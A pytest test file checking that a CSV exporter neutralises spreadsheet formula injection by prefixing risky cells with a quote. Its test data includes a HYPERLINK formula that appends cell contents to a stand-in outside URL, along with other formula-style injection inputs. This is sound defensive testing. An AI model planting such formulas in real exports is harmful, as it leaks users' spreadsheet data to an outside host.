"""Tables that a spreadsheet program opens without running what somebody wrote in them."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labeval.cli import main
from labeval.exchange.spreadsheet_safe import safe_cell
from labeval.exchange.writers import export_all

LINK = '=HYPERLINK("http://example.org/?"&A1,"here")'


@pytest.mark.parametrize(
    "text", [LINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1+1", "-", "=", "-1-1"]
)
def test_what_begins_like_a_formula_is_marked_as_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-1.5", "+3", "-2e5", "4", "a=1", "mail@example.org", "'x"])
def test_numbers_and_other_texts_stay(text):
    assert safe_cell(text) == text


@given(st.text(max_size=12))
def test_no_cell_begins_like_a_formula_unless_it_is_a_number(text):
    safe = safe_cell(text)
    assert safe in (text, f"'{text}")
    if safe.lstrip(" ")[:1] in tuple("=@") or safe[:1] in tuple("\t\r\n"):
        raise AssertionError(safe)


def test_the_export_is_exact_unless_it_is_asked_to_be_safe(desk, record, tmp_path, capsys):
    (record.path.parent / "study.yaml").touch()
    session = desk.rating("P07")
    session.comment(LINK)
    for options, expected in (([], LINK), (["--safe-for-spreadsheets"], f"'{LINK}")):
        out = tmp_path / f"{len(options)}.csv"
        command = ["export", str(record.path.parent), "--table", "comments", "--out", str(out)]
        assert main([*command, *options]) == 0
        with out.open(newline="") as file:
            assert [row["comment"] for row in csv.DictReader(file)] == [expected]
    folder = tmp_path / "all"
    written = export_all(record, "csv", folder, safe_for_spreadsheets=True)
    assert written and f"'{LINK[:10]}" in (folder / "events.csv").read_text("utf-8")
    refused = ["export", str(record.path.parent), "--format", "jsonl", "--safe-for-spreadsheets"]
    assert main(refused) == 1
    assert "only csv" in capsys.readouterr().err
